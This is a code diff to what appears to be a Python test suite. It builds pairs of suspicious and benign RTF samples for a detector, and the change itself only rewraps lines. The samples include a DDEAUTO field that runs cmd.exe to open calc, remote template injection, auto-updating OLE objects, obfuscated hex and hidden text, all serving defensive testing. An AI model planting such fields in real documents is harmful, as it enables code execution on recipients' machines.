@@ -168,11 +168,13 @@ def rtf(content: str) -> bytes:
 
 DOCUMENTS = [
     ("rtf_object", rtf(OBJECT % ("", "Word.Document.8", "")), rtf(r"{\pict\pngblip 89504e47}")),
-    ("rtf_object_updated", rtf(OBJECT % (r"\objupdate", "Word.Document.8", "")), rtf(OBJECT % ("", "Word.Document.8", ""))),
+    ("rtf_object_updated", rtf(OBJECT % (r"\objupdate", "Word.Document.8", "")),
+     rtf(OBJECT % ("", "Word.Document.8", ""))),
     ("rtf_template", rtf(r"{\*\template http://example.org/a.dotm}"), rtf(r"{\*\generator Mailer;}")),
     ("rtf_dde", rtf(r'{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}{\fldrslt x}}'),
      rtf(r'{\field{\*\fldinst HYPERLINK "http://example.org/"}{\fldrslt x}}')),
-    ("rtf_disguised", rtf(OBJECT % ("", "Word.Document.8", "zz!!41z42")), rtf(OBJECT % ("", "Word.Document.8", "4142"))),
+    ("rtf_disguised", rtf(OBJECT % ("", "Word.Document.8", "zz!!41z42")),
+     rtf(OBJECT % ("", "Word.Document.8", "4142"))),
     ("rtf_equation", rtf(OBJECT % ("", "Equation.3", "")), rtf(OBJECT % ("", "Excel.Sheet.8", ""))),
     ("rtf_hidden_text", rtf(r"{\v " + "words that nobody is to see at all " * 3 + "}"), rtf(r"{\v x}")),
     ("rtf_fetches", rtf(r'{\field{\*\fldinst INCLUDEPICTURE "http://example.org/a.png" \\d}{\fldrslt }}'), rtf("x")),
